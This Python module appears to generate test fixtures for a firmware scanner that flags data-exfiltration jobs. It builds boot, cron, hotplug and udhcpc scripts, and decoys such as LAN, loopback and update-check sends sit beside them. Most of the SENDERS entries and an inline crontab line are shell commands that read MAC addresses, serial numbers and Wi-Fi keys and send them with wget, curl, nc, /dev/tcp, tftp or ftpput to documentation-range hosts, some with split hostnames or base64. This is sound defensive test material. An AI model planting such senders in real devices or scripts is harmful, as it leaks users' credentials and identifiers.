"""Exfiltration jobs: a script started at boot, from cron (crontabs, /etc/cron.d, @reboot), by
a hotplug event or a udhcpc hook builds a payload of device data (MAC address, serial number,
CPU serial, the Wi-Fi key) from variables and command substitutions and sends it with wget,
curl, nc, tftp, ftpput, uclient-fetch or /dev/tcp to a host written into the image: a name
or a public IP literal, inline, in a variable, in a sourced config file, split across
variables. Each shape has decoys of the same form: the same data sent to a LAN or loopback
address or to a host the device's own configuration names, an update or NTP check that sends
nothing of the device, the MAC read only to configure an interface, a commented-out sender.

"Public" hosts are reserved documentation names and addresses only (RFC 2606 / RFC 5737)."""

from __future__ import annotations

from collections.abc import Iterator

from tests.variants.corpus import Variant

FAMILY = "exfiltration"
CATEGORY = "network.exfiltration"
REPORT = "/usr/sbin/report.sh"
INIT = "/etc/init.d/S95report"

# how the job is started: name -> (files that start it, where the job's script lives);
# `None` as the script path: the starter file is the script itself
PLACES: dict[str, tuple[dict[str, str], str]] = {
    "init": ({}, INIT),
    "init-background": ({INIT: f"#!/bin/sh\ncase \"$1\" in\n  start) {REPORT} & ;;\nesac\n"}, REPORT),
    "crontab": ({"/etc/init.d/S30cron": "#!/bin/sh\ncrond -c /etc/crontabs\n",
                 "/etc/crontabs/root": f"*/15 * * * * {REPORT} >/dev/null 2>&1\n"}, REPORT),
    "cron.d": ({"/etc/init.d/S30cron": "#!/bin/sh\ncrond\n",
                "/etc/cron.d/report": f"SHELL=/bin/sh\n0 */6 * * * root {REPORT}\n"}, REPORT),
    "reboot": ({"/etc/init.d/S30cron": "#!/bin/sh\ncrond\n",
                "/etc/crontabs/root": f"@reboot sleep 60; {REPORT}\n"}, REPORT),
    "hotplug": ({}, "/etc/hotplug.d/iface/99-report"),
    "udhcpc": ({}, "/usr/share/udhcpc/default.script"),
    "udhcpc-user": ({}, "/etc/udhcpc.user"),
}

# the data, read the ways firmware reads it (each a few lines that set the variables used
# by the senders below)
MAC = "MAC=$(cat /sys/class/net/eth0/address)\n"
SN = "SN=$(nvram get serial_no)\n"
CPU = "CPU=$(cat /proc/cpuinfo | grep Serial | awk '{print $3}')\n"
HW = "HW=$(ifconfig eth0 | grep HWaddr | awk '{print $5}')\n"
KEY = "KEY=$(uci get wireless.@wifi-iface[0].key)\n"
PSK = "PSK=`nvram get wl0_wpa_psk`\n"
WIRELESS = "KEY=$(grep -m1 \"option key\" /etc/config/wireless | cut -d\\' -f2)\n"

# name -> (body of the job, extra files); every body sends device data to a fixed host
SENDERS: dict[str, tuple[str, dict[str, str]]] = {
    "wget-get-query": (MAC + SN + 'wget -q -O /dev/null '
                       '"http://stats.example.com/r.php?mac=$MAC&sn=$SN"\n', {}),
    "wget-post-data": (MAC + 'wget -q -O- --post-data="id=$MAC&v=1" http://198.51.100.23/c.php\n', {}),
    "curl-data": (CPU + 'curl -s -d "cpu=$CPU" https://telemetry.example.net/api/v1/report\n', {}),
    "curl-data-urlencode": (KEY + 'curl -s --data-urlencode "k=$KEY" http://203.0.113.40:8080/k\n', {}),
    "curl-file-upload": ("ifconfig -a > /tmp/.n\nnvram show > /tmp/.c\n"
                         "curl -s -F \"n=@/tmp/.n\" -F \"c=@/tmp/.c\" http://upload.example.org/u\n", {}),
    "curl-body-from-pipe": (HW + 'echo "hw=$HW" | curl -s --data-binary @- http://203.0.113.77/in\n', {}),
    "nc-pipe": (MAC + SN + 'echo "$MAC $SN" | nc 198.51.100.9 4444\n', {}),
    "nc-heredoc-file": (HW + 'echo "$HW" > /tmp/hw.txt\nnc log.example.com 9000 < /tmp/hw.txt\n', {}),
    "dev-tcp": ("#!/bin/bash\n" + MAC + 'echo "GET /b?m=$MAC HTTP/1.0" > /dev/tcp/203.0.113.15/80\n', {}),
    "tftp-put": (WIRELESS + 'echo "$KEY" > /tmp/k\ntftp -p -l /tmp/k -r k.txt 198.51.100.200\n', {}),
    "ftpput": (PSK + 'echo "$PSK" > /var/psk\nftpput -u anon -p x ftp.example.net psk.txt /var/psk\n', {}),
    "uclient-fetch": (SN + 'uclient-fetch -q -O /dev/null "http://198.51.100.61/hb?sn=$SN"\n', {}),
    "host-in-variable": (MAC + 'SRV=collect.example.org\nwget -q -O /dev/null "http://$SRV/m?x=$MAC"\n', {}),
    "url-in-variable": (SN + 'URL="http://203.0.113.99/s.cgi"\nwget -qO- "$URL?serial=$SN"\n', {}),
    "host-split": (MAC + 'A=cdn\nB=example\nC=com\nH="$A.$B.$C"\n'
                   'wget -q -O /dev/null "http://$H/p?d=$MAC"\n', {}),
    "host-in-sourced-config": (". /etc/report.conf\n" + MAC + SN
                               + 'wget -q -O /dev/null "http://${SERVER}/r?mac=$MAC&sn=$SN"\n',
                               {"/etc/report.conf": "SERVER=report.example.net\nINTERVAL=3600\n"}),
    "payload-variable": (MAC + SN + 'P="mac=$MAC&sn=$SN"\ncurl -s -d "$P" http://198.51.100.140/p\n', {}),
    "payload-base64": (MAC + 'P=$(echo "$MAC" | base64)\n'
                       'wget -q -O /dev/null "http://203.0.113.3/?q=$P"\n', {}),
    "function-sender": (SN + 'send() {\n\twget -q -O /dev/null "http://beacon.example.com/$1"\n}\n'
                        'send "sn=$SN"\n', {}),
    "loop-retry": (MAC + 'for i in 1 2 3; do\n  curl -s -m 5 "http://203.0.113.201/up?m=$MAC" && break\n'
                   '  sleep 10\ndone\n', {}),
}

STOP_BRANCH = (MAC + 'case "$1" in\n  start) ifconfig eth0 up ;;\n'
               '  stop) wget -q -O /dev/null "http://stats.example.com/bye?mac=$MAC" ;;\nesac\n')

# name -> body: the same shapes that send nothing of the device, or send it nowhere fixed
DECOYS: dict[str, str] = {
    "lan-address": MAC + SN + 'wget -q -O /dev/null "http://192.168.1.10/r.php?mac=$MAC&sn=$SN"\n',
    "loopback-address": MAC + 'echo "$MAC" | nc 127.0.0.1 4444\n',
    "localhost-name": SN + 'curl -s -d "sn=$SN" http://localhost:8080/local\n',
    "host-from-nvram": MAC + 'SRV=$(nvram get update_server)\nwget -q -O /dev/null "http://$SRV/r?mac=$MAC"\n',
    "host-from-uci": SN + 'URL=$(uci get system.report.url)\ncurl -s -d "sn=$SN" "$URL"\n',
    "host-from-argument": MAC + 'wget -q -O /dev/null "http://$1/r?mac=$MAC"\n',
    "update-check": 'wget -q -O /tmp/latest.txt http://update.example.com/latest.txt\n',
    "update-check-model": 'MODEL=$(cat /etc/model)\n'
                          'wget -q -O /tmp/v "http://update.example.com/check?model=$MODEL&fw=1.2.3"\n',
    "ntp": 'ntpd -q -p pool.ntp.org\nntpd -q -p 0.openwrt.pool.ntp.org\n',
    "mac-configures-interface": MAC + 'ifconfig eth1 hw ether "$MAC"\nifconfig eth1 up\n'
                                'wget -q -O /tmp/fw.txt http://update.example.com/latest.txt\n',
    "commented-sender": MAC + '# wget -q -O /dev/null "http://stats.example.com/r.php?mac=$MAC"\n',
    "echoed-sender": MAC + 'echo "debug: wget http://stats.example.com/r.php?mac=$MAC"\n',
    "download-into-config": 'tftp -g -r wireless -l /etc/config/wireless 198.51.100.5\n'
                            'wget -O /etc/config/network http://203.0.113.8/network\n',
    "mac-in-local-filename": MAC + 'wget -q -O "/tmp/fw-$MAC.bin" http://203.0.113.8/fw.bin\n',
    "uncalled-function": SN + 'report() {\n\twget -q -O /dev/null "http://stats.example.com/r?sn=$SN"\n}\n',
    "serial-to-syslog": SN + 'logger -t report "serial $SN"\necho "$SN" > /tmp/serial\n',
    "firmware-download-public-ip": 'wget -q -O /tmp/fw.bin http://198.51.100.50/fw/latest.bin\n',
    "mac-to-nc-listener": MAC + 'echo "$MAC" | nc -l -p 9000\n',
    "stop-branch-only": STOP_BRANCH,  # the sender runs only on `stop`
    "here-document": MAC + 'cat > /tmp/help.txt <<EOF\nwget "http://stats.example.com/r.php?mac=$MAC"\nEOF\n',
}


def _wrap(place: str, body: str) -> str:
    """The job's script in the form its starter runs: udhcpc and hotplug hooks look at their
    event, an init script at its action."""
    shebang = ""
    if body.startswith("#!"):
        shebang, body = body.split("\n", 1)
        shebang += "\n"
    if place == "udhcpc":
        body = 'case "$1" in\n  bound|renew)\n' + _indent(body) + "  ;;\nesac\n"
    elif place == "udhcpc-user":
        body = '[ "$1" = bound ] || exit 0\n' + body
    elif place == "hotplug":
        body = '[ "$ACTION" = ifup ] || exit 0\n[ "$INTERFACE" = wan ] || exit 0\n' + body
    return (shebang or "#!/bin/sh\n") + body


def _indent(body: str) -> str:
    return "".join(f"    {line}\n" for line in body.splitlines())


def _files(place: str, body: str, extra: dict[str, str]) -> tuple[dict[str, str], str]:
    starters, script = PLACES[place]
    return {**starters, script: _wrap(place, body), **extra}, script


def variants() -> Iterator[Variant]:
    places = list(PLACES)
    for i, (name, (body, extra)) in enumerate(SENDERS.items()):
        place = places[i % len(places)]
        files, where = _files(place, body, extra)
        yield Variant(FAMILY, f"{name}-{place}", files, (CATEGORY, where))
    for i, (name, body) in enumerate(DECOYS.items()):
        place = places[i % len(places)]
        if name == "stop-branch-only":
            place = "init"
        files, _ = _files(place, body, {})
        yield Variant(FAMILY, f"{name}-{place}-decoy", files, None, forbid=(CATEGORY,))
    # a cron line that sends by itself, and its decoy twin to a LAN address
    line = ('*/5 * * * * wget -q -O /dev/null '
            '"http://stats.example.com/c?mac=$(cat /sys/class/net/eth0/address)"\n')
    yield Variant(FAMILY, "crontab-inline", {"/etc/crontabs/root": line}, (CATEGORY, "/etc/crontabs/root"))
    yield Variant(FAMILY, "crontab-inline-lan-decoy",
                  {"/etc/crontabs/root": line.replace("stats.example.com", "10.0.0.2")}, None,
                  forbid=(CATEGORY,))
    # the sender sits in a script nothing starts (an example shipped as documentation)
    yield Variant(FAMILY, "unstarted-example-decoy",
                  {"/usr/share/doc/report/example.sh": "#!/bin/sh\n" + SENDERS["nc-pipe"][0]}, None,
                  forbid=(CATEGORY,))
